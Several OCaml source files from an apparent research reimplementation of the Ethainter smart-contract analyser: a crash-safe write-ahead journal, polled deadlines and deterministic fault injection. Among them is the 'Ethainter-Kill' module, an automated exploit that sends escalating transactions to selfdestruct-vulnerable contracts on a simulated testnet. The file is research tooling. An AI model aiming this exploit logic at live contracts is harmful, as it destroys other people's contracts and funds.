      ( kind_verdict,
        encode_verdict ~addr:ev_addr ~indexed_block:ev_indexed_block
          ~runs:ev_runs ~result:ev_result )

let decode_event kind payload : event option =
  try
    if kind = kind_block then Some (Ev_block (decode_block payload))
    else if kind = kind_verdict then Some (decode_verdict payload)
    else None (* valid frame, unknown kind: forward compatibility *)
  with Parse -> None

(* ---------------- file layout ---------------- *)

(* Generation [g]: checkpoint [ckpt-g] captures state through some
   point; [wal-g] holds the records appended after it. Generation 0
   has no checkpoint (the pre-first-checkpoint journal). Retention
   keeps generations [g] and [g-1]: the older pair is the fallback
   when the newest checkpoint is corrupt. *)

let ckpt_path dir seq = Filename.concat dir (Printf.sprintf "ckpt-%09d.ethj" seq)
let wal_path dir seq = Filename.concat dir (Printf.sprintf "wal-%09d.ethj" seq)

let parse_name name =
  let num prefix =
    let plen = String.length prefix in
    if String.length name = plen + 14
       && String.sub name 0 plen = prefix
       && Filename.check_suffix name ".ethj"
    then int_of_string_opt (String.sub name plen 9)
    else None
  in
  match num "ckpt-" with
  | Some n -> Some (`Ckpt n)
  | None -> ( match num "wal-" with Some n -> Some (`Wal n) | None -> None)

let rec mkdir_p dir =
  if dir <> "" && dir <> "/" && dir <> "." && not (Sys.file_exists dir)
  then begin
    mkdir_p (Filename.dirname dir);
    try Unix.mkdir dir 0o755
    with Unix.Unix_error (Unix.EEXIST, _, _) -> ()
  end

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in_noerr ic)
    (fun () -> really_input_string ic (in_channel_length ic))

let rec write_all fd s off len =
  if len > 0 then
    match Unix.write_substring fd s off len with
    | exception Unix.Unix_error (Unix.EINTR, _, _) -> write_all fd s off len
    | n -> write_all fd s (off + n) (len - n)

(* Directory fsync makes the rename/creat durable against power loss.
   Some filesystems refuse fsync on a directory fd; degrading silently
   is correct — the guarantee lost is power-loss durability of the
   very newest generation, which recovery already tolerates. *)
let fsync_dir dir =
  match Unix.openfile dir [ Unix.O_RDONLY; Unix.O_CLOEXEC ] 0 with
  | exception _ -> ()
  | fd ->
      (try Unix.fsync fd with _ -> ());
      (try Unix.close fd with _ -> ())

let rm path = try Sys.remove path with _ -> ()

(* ---------------- writer ---------------- *)

type t = {
  dir : string;
  mutable gen : int;            (* generation of the open wal file *)
  mutable fd : Unix.file_descr;
  mutable bytes : int;          (* bytes in the current wal file *)
  mutable appends : int;
  mutable checkpoints : int;
  mutable closed : bool;
}

let wal_bytes t = t.bytes

let stats t =
  [ ("journal_appends", float_of_int t.appends);
    ("journal_checkpoints", float_of_int t.checkpoints);
    ("journal_generation", float_of_int t.gen);
    ("journal_wal_bytes", float_of_int t.bytes) ]

let append t ev =
  if t.closed then invalid_arg "Journal.append: closed";
  let kind, payload = encode_event ev in
  let record = encode_record ~kind payload in
  (* the two crash sites bracket the write: a chaos run exercises both
     "record lost" and "record durable, everything after lost" *)
  Fault.crash_site ();
  (match Fault.torn record with
  | Some prefix ->
      write_all t.fd prefix 0 (String.length prefix);
      raise (Fault.Crashed "torn journal write")
  | None -> write_all t.fd record 0 (String.length record));
  t.bytes <- t.bytes + String.length record;
  t.appends <- t.appends + 1;
  Fault.crash_site ()

let checkpoint t snap =
  if t.closed then invalid_arg "Journal.checkpoint: closed";
  let seq = t.gen + 1 in
  let record = encode_record ~kind:kind_checkpoint (encode_snapshot snap) in
  Fault.crash_site ();
  (* write-fsync-rename: the checkpoint appears atomically, and is on
     stable storage before its name exists *)
  let tmp = Filename.concat t.dir (Printf.sprintf ".ckpt-%09d.tmp" seq) in
  let fd =
    Unix.openfile tmp
      [ Unix.O_WRONLY; Unix.O_CREAT; Unix.O_TRUNC; Unix.O_CLOEXEC ] 0o644
  in
  Fun.protect
    ~finally:(fun () -> try Unix.close fd with _ -> ())
    (fun () ->
      write_all fd record 0 (String.length record);
      Unix.fsync fd);
  Sys.rename tmp (ckpt_path t.dir seq);
  Fault.crash_site ();
  (* rotate the journal *)
  let wal =
    Unix.openfile (wal_path t.dir seq)
      [ Unix.O_WRONLY; Unix.O_CREAT; Unix.O_TRUNC; Unix.O_CLOEXEC ] 0o644
  in
  (try Unix.close t.fd with _ -> ());
  t.fd <- wal;
  t.gen <- seq;
  t.bytes <- 0;
  t.checkpoints <- t.checkpoints + 1;
  fsync_dir t.dir;
  (* prune: keep generations [seq] and [seq-1] *)
  for old = 0 to seq - 2 do
    rm (ckpt_path t.dir old);
    rm (wal_path t.dir old)
  done

let close t snap =
  if not t.closed then begin
    checkpoint t snap;
    t.closed <- true;
    try Unix.close t.fd with _ -> ()
  end

(* ---------------- recovery ---------------- *)

type recovery = {
  r_snapshot : snapshot option;
  r_events : event list;
  r_checkpoint_fallback : bool;
  r_torn_tail : bool;
}

let load_checkpoint dir seq : snapshot option =
  match read_file (ckpt_path dir seq) with
  | exception _ -> None
  | buf -> (
      match decode_record buf ~pos:0 with
      | Some (k, payload, _) when k = kind_checkpoint -> (
          try Some (decode_snapshot payload) with Parse -> None)
      | _ -> None)

let recover ~dir : t * recovery =
  mkdir_p dir;
  let names = try Sys.readdir dir with _ -> [||] in
  let ckpts = ref [] and wals = ref [] in
  Array.iter
    (fun name ->
      match parse_name name with
      | Some (`Ckpt n) -> ckpts := n :: !ckpts
      | Some (`Wal n) -> wals := n :: !wals
      | None ->
          (* stale checkpoint temp files from a crashed writer *)
          if String.length name > 1 && name.[0] = '.' then
            rm (Filename.concat dir name))
    names;
  let ckpts = List.sort (fun a b -> compare b a) !ckpts in
  let wals = List.sort compare !wals in
  (* newest checkpoint that validates wins; corrupt ones are deleted
     so they cannot shadow the good generation again *)
  let rec pick fallback = function
    | [] -> (None, fallback)
    | seq :: rest -> (
        match load_checkpoint dir seq with
        | Some snap -> (Some (seq, snap), fallback)
        | None ->
            rm (ckpt_path dir seq);
            pick true rest)
  in
  let chosen, fallback = pick false ckpts in
  let base = match chosen with Some (s, _) -> s | None -> 0 in
  (* journals to replay: the contiguous run of generations starting at
     the chosen checkpoint. Anything older is pruned; anything past a
     gap (or past a corrupt record, below) is causally after lost
     history and must not be replayed. *)
  let replayable, stale =
    List.partition (fun s -> s >= base) wals
  in
  List.iter (fun s -> rm (wal_path dir s)) stale;
  let rec contiguous next = function
    | s :: rest when s = next -> s :: contiguous (s + 1) rest
    | rest ->
        List.iter (fun s -> rm (wal_path dir s)) rest;
        []
  in
  let replayable = contiguous base replayable in
  let events = ref [] in
  let torn = ref false in
  let target = ref None in
  let rec replay = function
    | [] -> ()
    | seq :: rest ->
        let buf = try read_file (wal_path dir seq) with _ -> "" in
        let pos = ref 0 in
        let stop = ref false in
        while (not !stop) && !pos < String.length buf do
          match decode_record buf ~pos:!pos with
          | Some (kind, payload, consumed) ->
              (match decode_event kind payload with
              | Some ev -> events := ev :: !events
              | None -> ());
              pos := !pos + consumed
          | None ->
              stop := true;
              torn := true
        done;
        target := Some (seq, !pos);
        if !stop then
          (* records after a torn/corrupt point are unreachable
             history: drop the files so they can never be replayed
             out of order by a later recovery *)
          List.iter (fun s -> rm (wal_path dir s)) rest
        else replay rest
  in
  replay replayable;
  let tgt_seq, tgt_end =
    match !target with Some x -> x | None -> (base, 0)
  in
  (* arm the writer on the replay cut: truncate the torn tail away and
     append after the last valid record *)
  let fd =
    Unix.openfile (wal_path dir tgt_seq)
      [ Unix.O_RDWR; Unix.O_CREAT; Unix.O_CLOEXEC ] 0o644
  in
  Unix.ftruncate fd tgt_end;
  ignore (Unix.lseek fd 0 Unix.SEEK_END);
  fsync_dir dir;
  let t =
    { dir; gen = tgt_seq; fd; bytes = tgt_end; appends = 0; checkpoints = 0;
      closed = false }
  in
  ( t,
    { r_snapshot = (match chosen with Some (_, s) -> Some s | None -> None);
      r_events = List.rev !events;
      r_checkpoint_fallback = fallback;
      r_torn_tail = !torn } )
