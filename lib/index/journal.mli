(** Write-ahead journal for the streaming index.

    Everything the index has learned from the chain — block
    observations and the verdicts analysis produced for them — lives in
    process memory; this module makes that state survive the process.
    It is a classic WAL + checkpoint design:

    - every block observation and every verdict transition is appended
      to the current {b journal file} as one length-prefixed,
      checksummed record (the same framing discipline as the serving
      stack's [Frame] codec: magic, version, kind, big-endian length,
      FNV-64 digest over header+payload — any single-bit flip is
      detected with certainty);
    - periodically (and always on {!close}) the index's whole state is
      compacted into a {b checkpoint}: one framed record holding the
      chain cursor and every entry (bytecode, state, verdict payload
      via the self-validating {!Ethainter_core.Pipeline.encode_result}
      codec). Checkpoints are written to a temp file, [fsync]ed, then
      atomically renamed, and the directory is fsynced — a checkpoint
      either exists completely or not at all. Writing checkpoint [g+1]
      rotates the journal: subsequent records go to journal [g+1], and
      generation [g-1]'s files are pruned (generation [g] is kept as
      the fallback for a corrupt newest checkpoint).

    {b Recovery} ({!recover}) loads the newest checkpoint that
    validates (falling back to the previous generation — and replaying
    both generations' journals — when the newest is corrupt), then
    replays journal records in order, stopping at the first record
    that fails to frame-decode: a torn tail (the writer died
    mid-[write(2)]) is indistinguishable from end-of-log and is simply
    absent. The journal file is truncated back to the last valid
    record before appending resumes, so a torn tail can never be
    misparsed later.

    {b Crash-safety guarantees.} Journal appends are {e not} fsynced
    (only checkpoints are): against process death — crash, OOM-kill,
    [kill -9] — nothing is lost, because data handed to [write(2)]
    survives the writer. Against power loss, the un-fsynced journal
    tail may be lost; recovery then resumes from an older cursor and
    the index re-derives the difference from the chain
    ([blocks_since cursor]) — verdict content is unaffected, only
    re-analysis work is repeated. {b Single writer}: the directory
    must belong to exactly one live index; two concurrent writers
    interleave records and corrupt each other (there is deliberately
    no lock file — supervisors that restart a daemon must wait for the
    old process to die).

    The caller (the index) serializes all calls; a [t] is not
    thread-safe on its own. *)

module U := Ethainter_word.Uint256
module P := Ethainter_core.Pipeline

(** {1 Journaled state} *)

(** One block's effects, exactly what the index consumes from
    {!Ethainter_chain.Testnet.block}. *)
type obs = {
  o_number : int;
  o_deployed : (U.t * string) list;   (** address, runtime bytecode *)
  o_writes : (U.t * U.t) list;        (** address, storage slot *)
  o_destroyed : U.t list;
}

type event =
  | Ev_block of obs
  | Ev_verdict of {
      ev_addr : U.t;
      ev_indexed_block : int;
      ev_runs : int;
      ev_result : P.result;
    }  (** an analysis landed for [ev_addr] while it was pending *)

type entry_state =
  | S_pending                       (** queued or in flight at crash time;
                                        recovery re-queues it *)
  | S_indexed of P.result * int     (** verdict, block it was indexed at *)
  | S_destroyed

type entry = {
  e_addr : U.t;
  e_code : string;
  e_deployed_block : int;
  e_queued_block : int;
  e_runs : int;
  e_state : entry_state;
}

type snapshot = { s_cursor : int; s_entries : entry list }
(** A full index state: the highest block processed and every entry. *)

(** {1 Writing} *)

type t

val append : t -> event -> unit
(** Append one framed record to the current journal file. Buffered by
    the kernel, not fsynced (see the crash-safety note above). Raises
    [Invalid_argument] after {!close}. Carries the [crash] /
    [torn_write] fault-injection sites. *)

val checkpoint : t -> snapshot -> unit
(** Compact [snapshot] into a new checkpoint generation:
    write-fsync-rename the checkpoint, rotate to a fresh journal file,
    fsync the directory, prune generations older than the previous
    one. *)

val close : t -> snapshot -> unit
(** Final {!checkpoint} then close the journal fd. Idempotent; after
    this the directory recovers with zero journal replay. *)

val wal_bytes : t -> int
(** Bytes appended to the current journal file since its rotation. *)

val stats : t -> (string * float) list
(** Telemetry pairs: [journal_appends], [journal_checkpoints],
    [journal_generation], [journal_wal_bytes] (cumulative counters are
    since this [t] was opened). *)

(** {1 Recovery} *)

type recovery = {
  r_snapshot : snapshot option;
      (** newest checkpoint that validated, if any *)
  r_events : event list;
      (** journal records after that checkpoint, in append order *)
  r_checkpoint_fallback : bool;
      (** the newest checkpoint on disk was corrupt and an older
          generation was used (or none) *)
  r_torn_tail : bool;
      (** the journal ended in a torn/corrupt record; the tail was
          discarded and truncated away *)
}

val recover : dir:string -> t * recovery
(** Open (creating if needed) a journal directory and reconstruct the
    durable state: pick the newest checkpoint that validates, replay
    its generation's journal records up to the first framing error,
    truncate the torn tail, and arm the returned [t] to append after
    the last valid record. An empty or missing directory yields
    [{ r_snapshot = None; r_events = []; ... }] — a fresh index.
    Corrupt checkpoint files are deleted; journal files newer than the
    replay cut are deleted (their records are causally after a record
    that was lost, so keeping them would reorder history). *)
