(** Ethainter-Kill: automatic end-to-end exploitation of
    selfdestruct vulnerabilities flagged by Ethainter (§6.1).

    "Ethainter-Kill is fully automated — it reads Ethainter's output,
    connects to Ethereum nodes and proceeds to exploit a subset of
    vulnerabilities ... Ethainter-Kill also verified whether the
    transactions resulted in the contract actually being destroyed by
    analyzing the exact VM instruction trace and identifying whether
    the selfdestruct opcode was executed."

    Our tool follows the same loop against the {!Ethainter_chain}
    testnet:
    1. consume Ethainter reports; only [accessible selfdestruct] /
       [tainted selfdestruct] are supported (as in the paper);
    2. recover the contract's public ABI surface from the bytecode by
       harvesting 4-byte selector comparisons in the decompiled
       dispatcher — if the flagged statement lies in orphan code (no
       path from the entry), give up: "Ethainter-Kill was unable to
       find a public entry point";
    3. fire transactions: every selector, attacker-address words as
       arguments, over several escalation rounds (composite attacks
       like §2's need earlier calls to install the attacker as
       user/admin/owner before the kill succeeds);
    4. declare success only if the victim's instruction trace executed
       [SELFDESTRUCT] — checked exactly as the paper does. *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
module T = Ethainter_chain.Testnet
open Ethainter_tac

type attempt = {
  a_contract : U.t;
  a_outcome : outcome;
  a_txs_sent : int;
}

and outcome =
  | Destroyed                 (** SELFDESTRUCT executed; contract gone *)
  | NoPublicEntry             (** flagged statement unreachable from entry *)
  | NotExploited              (** calls went through but no destruction *)
  | NothingToDo               (** no supported vulnerability in reports *)

let outcome_to_string = function
  | Destroyed -> "destroyed"
  | NoPublicEntry -> "no public entry point"
  | NotExploited -> "not exploited"
  | NothingToDo -> "no supported vulnerability"

(** Extract the public function selectors from decompiled bytecode:
    4-byte constants compared (EQ) against anything in the program.
    This recovers the Solidity dispatcher without source or ABI. *)
let harvest_selectors (p : Tac.program) : U.t list =
  let four_byte v =
    U.gt v U.zero && U.lt v (U.shift_left U.one 32)
  in
  let sels = ref [] in
  List.iter
    (fun (s : Tac.stmt) ->
      match s.Tac.s_op with
      | Tac.TOp Op.EQ ->
          List.iter
            (fun a ->
              match Tac.const_of p a with
              | Some c when four_byte c ->
                  if not (List.exists (U.equal c) !sels) then
                    sels := c :: !sels
              | _ -> ())
            s.Tac.s_args
      | _ -> ())
    (Tac.stmts p);
  List.rev !sels

let selector_calldata (sel : U.t) (args : U.t list) : string =
  let selbytes = String.sub (U.to_bytes sel) 28 4 in
  selbytes ^ String.concat "" (List.map U.to_bytes args)

(** Attempt to destroy [victim] on [net], given Ethainter's reports for
    its runtime bytecode. [rounds] bounds the escalation depth. *)
let attack ?(rounds = 4) (net : T.t) ~(attacker : U.t) ~(victim : U.t)
    (reports : Ethainter_core.Vulns.report list) : attempt =
  let supported =
    List.filter
      (fun (r : Ethainter_core.Vulns.report) ->
        match r.Ethainter_core.Vulns.r_kind with
        | Ethainter_core.Vulns.AccessibleSelfdestruct
        | Ethainter_core.Vulns.TaintedSelfdestruct ->
            true
        | _ -> false)
      reports
  in
  if supported = [] then
    { a_contract = victim; a_outcome = NothingToDo; a_txs_sent = 0 }
  else begin
    (* the chain just executed this contract, so the pre-decoded
       program is a guaranteed cache hit — the decompile pays zero
       decodes *)
    let prog = Ethainter_evm.State.program (T.state net) victim in
    let p = Decomp.decompile_program prog in
    (* paper: "For the rest, Ethainter-Kill was unable to find a public
       entry point that would reach the private, Ethainter-flagged
       vulnerable statement." *)
    let all_orphan =
      List.for_all
        (fun (r : Ethainter_core.Vulns.report) ->
          r.Ethainter_core.Vulns.r_orphan)
        supported
    in
    if all_orphan then
      { a_contract = victim; a_outcome = NoPublicEntry; a_txs_sent = 0 }
    else begin
      let sels = harvest_selectors p in
      let txs = ref 0 in
      let destroyed = ref false in
      let arg_sets =
        [ [ attacker; attacker; attacker ] (* address-shaped args *) ]
      in
      let fire sel args =
        if not !destroyed then begin
          incr txs;
          let r =
            T.transact net ~from:attacker ~to_:victim
              (selector_calldata sel args)
          in
          if Ethainter_evm.Interp.trace_selfdestructed r.T.trace victim then
            destroyed := true
        end
      in
      (* escalation rounds: sweep all selectors; state changes from
         earlier calls (become user, become admin, become owner)
         unlock later ones *)
      let round = ref 0 in
      while (not !destroyed) && !round < rounds do
        incr round;
        List.iter
          (fun sel -> List.iter (fun args -> fire sel args) arg_sets)
          sels
      done;
      let outcome =
        if !destroyed then Destroyed
        else if sels = [] then NoPublicEntry
        else NotExploited
      in
      { a_contract = victim; a_outcome = outcome; a_txs_sent = !txs }
    end
  end

type campaign_stats = {
  flagged : int;
  pinpointed : int;  (** a public entry point was found *)
  destroyed : int;
  not_exploited : int;
  total_txs : int;
}

(** Run Kill over a batch of (victim, reports) pairs — the Ropsten-fork
    campaign of Experiment 1. *)
let campaign ?(rounds = 4) (net : T.t) ~(attacker : U.t)
    (targets : (U.t * Ethainter_core.Vulns.report list) list) :
    campaign_stats * attempt list =
  let attempts =
    List.map
      (fun (victim, reports) -> attack ~rounds net ~attacker ~victim reports)
      targets
  in
  let count f = List.length (List.filter f attempts) in
  ( { flagged = List.length targets;
      pinpointed = count (fun a -> a.a_outcome <> NoPublicEntry
                                   && a.a_outcome <> NothingToDo);
      destroyed = count (fun a -> a.a_outcome = Destroyed);
      not_exploited = count (fun a -> a.a_outcome = NotExploited);
      total_txs = List.fold_left (fun n a -> n + a.a_txs_sent) 0 attempts },
    attempts )
