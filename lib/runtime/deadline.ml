(* Per-domain polled deadlines. See deadline.mli. *)

exception Expired

let poll_interval = 1024

type state = {
  mutable deadline : float; (* absolute; infinity = none installed *)
  mutable countdown : int;
}

let key =
  Domain.DLS.new_key (fun () ->
      { deadline = infinity; countdown = poll_interval })

let enabled = Atomic.make true
let set_enabled b = Atomic.set enabled b
let is_enabled () = Atomic.get enabled

let with_deadline abs f =
  let st = Domain.DLS.get key in
  let saved_deadline = st.deadline and saved_countdown = st.countdown in
  (* Narrow only: a nested scope must not outlive its enclosing
     budget. The countdown reset makes the iteration count before the
     first check per-request deterministic. *)
  st.deadline <- Float.min saved_deadline abs;
  st.countdown <- poll_interval;
  Fun.protect
    ~finally:(fun () ->
      st.deadline <- saved_deadline;
      st.countdown <- saved_countdown)
    f

let check () =
  let st = Domain.DLS.get key in
  if st.deadline < infinity && Unix.gettimeofday () > st.deadline then
    raise Expired

(* The fast path is one domain-local load, a decrement and a branch —
   the [enabled] atomic is only consulted at the amortized boundary,
   keeping the per-iteration cost of the hot loops flat. *)
let poll () =
  let st = Domain.DLS.get key in
  st.countdown <- st.countdown - 1;
  if st.countdown <= 0 then begin
    st.countdown <- poll_interval;
    if Atomic.get enabled then begin
      Fault.poll_site ();
      if st.deadline < infinity && Unix.gettimeofday () > st.deadline then
        raise Expired
    end
  end
