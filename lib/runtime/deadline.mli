(** Per-domain polled deadlines: preemptive (well, cooperative at
    instruction granularity) cancellation for the analysis hot loops.

    The paper enforces a hard 120 s per-contract cutoff (§6); checking
    it only between pipeline phases leaves the decompiler worklist,
    the Datalog semi-naive loop and the taint fixpoint unbounded on
    adversarial bytecode. This module gives every analysis loop a
    cheap poll: a domain-local countdown is decremented per iteration
    and, every {!poll_interval} iterations, the wall clock is compared
    against the installed deadline — so a stuck loop is cut within
    ~1024 iterations of the cutoff, at a cost too small to measure on
    clean runs (the PR 4 bench bounds it under 2%).

    {!poll} is also the {!Fault} module's [poll]/[oom] injection
    point, which is what lets the chaos suite kill an analysis
    mid-loop at a deterministic iteration. *)

exception Expired
(** Raised by {!poll}/{!check} once the wall clock passes the
    installed deadline. {!Pipeline.run} converts it into the ordinary
    [timed_out = true] result. *)

val poll_interval : int
(** Iterations between wall-clock reads (1024). *)

val with_deadline : float -> (unit -> 'a) -> 'a
(** [with_deadline abs f] runs [f] with the calling domain's deadline
    set to [abs] (an absolute [Unix.gettimeofday] instant; narrowed,
    never widened, if a deadline is already installed) and the poll
    countdown reset — the reset makes the number of iterations before
    the first check a pure function of the request, not of what ran
    on the domain before, which the determinism tests rely on. The
    previous deadline and countdown are restored on exit. *)

val poll : unit -> unit
(** The amortized check: decrement the countdown; every
    {!poll_interval}-th call, fire {!Fault.poll_site} and compare the
    clock against the deadline, raising {!Expired} when past it.
    Safe (and nearly free) to call with no deadline installed. *)

val check : unit -> unit
(** Immediate, non-amortized deadline comparison (no fault hook). *)

val set_enabled : bool -> unit
(** Process-wide kill switch, for measuring poll overhead: with
    [false], {!poll} still runs its (single-load) countdown fast path
    but skips the boundary work — no clock read, no fault hook, no
    enforcement. Enabled by default. *)

val is_enabled : unit -> bool
