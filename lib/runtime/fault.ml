(* Deterministic seeded fault injection. See fault.mli for the
   contract; the key property is that every draw is a pure function of
   (seed, request key, site, attempt, per-site firing index), so a
   chaos sweep injects identically across runs and worker counts. *)

type site = Poll | Oom | Disk_read | Disk_write | Corrupt | Crash | Torn_write

exception Injected of string
exception Crashed of string

let nsites = 7

let site_index = function
  | Poll -> 0
  | Oom -> 1
  | Disk_read -> 2
  | Disk_write -> 3
  | Corrupt -> 4
  | Crash -> 5
  | Torn_write -> 6

let site_name = function
  | Poll -> "poll"
  | Oom -> "oom"
  | Disk_read -> "disk_read"
  | Disk_write -> "disk_write"
  | Corrupt -> "corrupt"
  | Crash -> "crash"
  | Torn_write -> "torn_write"

let site_of_name = function
  | "poll" -> Some Poll
  | "oom" -> Some Oom
  | "disk_read" -> Some Disk_read
  | "disk_write" -> Some Disk_write
  | "corrupt" -> Some Corrupt
  | "crash" -> Some Crash
  | "torn_write" -> Some Torn_write
  | _ -> None

let all_sites = [ Poll; Oom; Disk_read; Disk_write; Corrupt; Crash; Torn_write ]

type config = { rates : float array; (* indexed by site_index *)
                seed : int64 }

(* Immutable snapshot behind one atomic: [configure] is called from
   test/CLI setup, the hooks from every worker domain. *)
let config : config option Atomic.t = Atomic.make None

(* Per-domain draw context. The counters make consecutive draws at one
   site distinct; they are reset per request by [set_context] so a
   contract's schedule does not depend on its position in the sweep. *)
type ctx = {
  mutable chash : int64;        (* hash of the request key *)
  mutable attempt : int;        (* scheduler retry attempt *)
  counters : int array;         (* per-site firing index *)
}

let ctx_key =
  Domain.DLS.new_key (fun () ->
      { chash = 0L; attempt = 0; counters = Array.make nsites 0 })

let fired = Atomic.make 0
let injected_count () = Atomic.get fired
let reset_injected_count () = Atomic.set fired 0

(* ---------------- hashing ---------------- *)

(* FNV-1a 64: cheap, good-enough dispersion for a context key. *)
let fnv64 (s : string) : int64 =
  let h = ref 0xCBF29CE484222325L in
  String.iter
    (fun c -> h := Int64.mul (Int64.logxor !h (Int64.of_int (Char.code c)))
                     0x100000001B3L)
    s;
  !h

(* splitmix64 finalizer: turns the mixed identifiers into 64
   well-distributed bits. *)
let splitmix64 (x : int64) : int64 =
  let open Int64 in
  let z = add x 0x9E3779B97F4A7C15L in
  let z = mul (logxor z (shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = mul (logxor z (shift_right_logical z 27)) 0x94D049BB133111EBL in
  logxor z (shift_right_logical z 31)

let two_53 = 9007199254740992.0

(* One deterministic draw at [site]; advances that site's counter. *)
let draw cfg ctx ste =
  let i = site_index ste in
  let n = ctx.counters.(i) in
  ctx.counters.(i) <- n + 1;
  let mix =
    Int64.logxor
      (Int64.logxor cfg.seed ctx.chash)
      (Int64.add
         (Int64.mul (Int64.of_int ((i * 0x3FF) + ctx.attempt + 1))
            0x9E3779B97F4A7C15L)
         (Int64.of_int n))
  in
  let h = splitmix64 mix in
  let u = Int64.to_float (Int64.shift_right_logical h 11) /. two_53 in
  u < cfg.rates.(i)

(* Same draw, but also returning the hash so [corrupt] can derive a
   bit position from it. *)
let draw_bits cfg ctx ste =
  let i = site_index ste in
  let n = ctx.counters.(i) in
  ctx.counters.(i) <- n + 1;
  let mix =
    Int64.logxor
      (Int64.logxor cfg.seed ctx.chash)
      (Int64.add
         (Int64.mul (Int64.of_int ((i * 0x3FF) + ctx.attempt + 1))
            0x9E3779B97F4A7C15L)
         (Int64.of_int n))
  in
  let h = splitmix64 mix in
  let u = Int64.to_float (Int64.shift_right_logical h 11) /. two_53 in
  (u < cfg.rates.(i), h)

(* ---------------- spec parsing ---------------- *)

let parse_spec (s : string) : config =
  let bad fmt = Printf.ksprintf invalid_arg ("Fault.configure: " ^^ fmt) in
  let s = String.trim s in
  let rates_part, seed_part =
    match String.rindex_opt s ':' with
    | None -> bad "missing ':seed' in %S" s
    | Some i ->
        (String.sub s 0 i, String.sub s (i + 1) (String.length s - i - 1))
  in
  let seed =
    match Int64.of_string_opt (String.trim seed_part) with
    | Some v -> v
    | None -> bad "seed %S is not an integer" seed_part
  in
  let rates = Array.make nsites 0.0 in
  if String.trim rates_part <> "" then
    List.iter
      (fun item ->
        let item = String.trim item in
        match String.index_opt item '=' with
        | None -> bad "expected site=rate, got %S" item
        | Some i -> (
            let name = String.sub item 0 i in
            let v = String.sub item (i + 1) (String.length item - i - 1) in
            match (site_of_name (String.trim name), float_of_string_opt v) with
            | None, _ -> bad "unknown site %S" name
            | _, None -> bad "rate %S is not a float" v
            | Some stx, Some r ->
                if r < 0.0 || r > 1.0 then bad "rate %g out of [0,1]" r;
                rates.(site_index stx) <- r))
      (String.split_on_char ',' rates_part);
  { rates; seed }

let configure = function
  | None -> Atomic.set config None
  | Some s -> Atomic.set config (Some (parse_spec s))

let spec () =
  match Atomic.get config with
  | None -> None
  | Some cfg ->
      let items =
        List.filter_map
          (fun stx ->
            let r = cfg.rates.(site_index stx) in
            if r > 0.0 then Some (Printf.sprintf "%s=%g" (site_name stx) r)
            else None)
          all_sites
      in
      Some (Printf.sprintf "%s:%Ld" (String.concat "," items) cfg.seed)

let enabled () = Atomic.get config <> None

(* Armed from the environment at module init; a malformed value warns
   rather than killing the process (analysis must not depend on env
   hygiene). *)
let () =
  match Sys.getenv_opt "ETHAINTER_FAULTS" with
  | None | Some "" -> ()
  | Some s -> (
      try configure (Some s)
      with Invalid_argument msg ->
        Printf.eprintf "ethainter: ignoring ETHAINTER_FAULTS: %s\n%!" msg)

(* ---------------- per-request context ---------------- *)

let set_context ~key =
  match Atomic.get config with
  | None -> ()
  | Some _ ->
      let ctx = Domain.DLS.get ctx_key in
      ctx.chash <- fnv64 key;
      Array.fill ctx.counters 0 nsites 0

let with_attempt n f =
  let ctx = Domain.DLS.get ctx_key in
  let saved = ctx.attempt in
  ctx.attempt <- n;
  Fun.protect ~finally:(fun () -> ctx.attempt <- saved) f

(* ---------------- injection hooks ---------------- *)

let poll_site () =
  match Atomic.get config with
  | None -> ()
  | Some cfg ->
      let ctx = Domain.DLS.get ctx_key in
      if cfg.rates.(site_index Oom) > 0.0 && draw cfg ctx Oom then begin
        Atomic.incr fired;
        raise Out_of_memory
      end;
      if cfg.rates.(site_index Poll) > 0.0 && draw cfg ctx Poll then begin
        Atomic.incr fired;
        raise (Injected "injected poll fault")
      end

let io_site stx =
  match Atomic.get config with
  | None -> ()
  | Some cfg ->
      let ctx = Domain.DLS.get ctx_key in
      if cfg.rates.(site_index stx) > 0.0 && draw cfg ctx stx then begin
        Atomic.incr fired;
        raise (Injected ("injected " ^ site_name stx ^ " fault"))
      end

(* Crash simulation: raising here is byte-equivalent on disk to kill -9
   at the same point — data handed to write(2) before the raise survives
   in the page cache whether or not the process lives, and everything
   after the raise never happens. The exception must propagate to the
   process driver (it is NOT [Injected], so the scheduler's transient
   retry never swallows it). *)
let crash_site () =
  match Atomic.get config with
  | None -> ()
  | Some cfg ->
      let ctx = Domain.DLS.get ctx_key in
      if cfg.rates.(site_index Crash) > 0.0 && draw cfg ctx Crash then begin
        Atomic.incr fired;
        raise (Crashed "injected crash fault")
      end

(* Torn-write simulation: when the site fires, return a strict prefix of
   [payload] (deterministic length drawn from the hash). The caller must
   write the prefix and then die — a torn write only materializes when
   the writer is killed mid-write. *)
let torn (payload : string) : string option =
  match Atomic.get config with
  | None -> None
  | Some cfg ->
      if cfg.rates.(site_index Torn_write) <= 0.0 || String.length payload < 2
      then None
      else
        let ctx = Domain.DLS.get ctx_key in
        let hit, h = draw_bits cfg ctx Torn_write in
        if not hit then None
        else begin
          Atomic.incr fired;
          let len =
            Int64.to_int
              (Int64.rem (Int64.shift_right_logical h 8)
                 (Int64.of_int (String.length payload - 1)))
            + 1
          in
          Some (String.sub payload 0 len)
        end

let corrupt (payload : string) : string =
  match Atomic.get config with
  | None -> payload
  | Some cfg ->
      if cfg.rates.(site_index Corrupt) <= 0.0 || payload = "" then payload
      else
        let ctx = Domain.DLS.get ctx_key in
        let hit, h = draw_bits cfg ctx Corrupt in
        if not hit then payload
        else begin
          Atomic.incr fired;
          let b = Bytes.of_string payload in
          let pos =
            Int64.to_int (Int64.rem (Int64.shift_right_logical h 8)
                            (Int64.of_int (Bytes.length b)))
          in
          let bit = Int64.to_int (Int64.logand h 7L) in
          Bytes.set b pos
            (Char.chr (Char.code (Bytes.get b pos) lxor (1 lsl bit)));
          Bytes.to_string b
        end
