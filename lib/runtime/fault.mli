(** Deterministic seeded fault injection.

    The paper's whole-blockchain sweep (§6) only works if one hostile
    contract — or one flaky disk — can never take down the fleet. The
    isolation paths that guarantee that (scheduler fault capture, cache
    degradation, retry) are exactly the paths a clean test run never
    exercises, so this module lets a chaos suite {e drive} them:
    injection points placed at the deadline poll sites and around every
    disk-tier I/O fire exceptions (or corrupt payloads) according to a
    seeded, fully deterministic schedule.

    Configuration comes from [ETHAINTER_FAULTS] (or {!configure}):

    {v site=rate,site=rate,...:seed v}

    e.g. [poll=0.02,oom=0.001,disk_read=0.3,corrupt=0.5:1234]. Sites:

    - [poll] — raise {!Injected} at a deadline poll site (an analysis
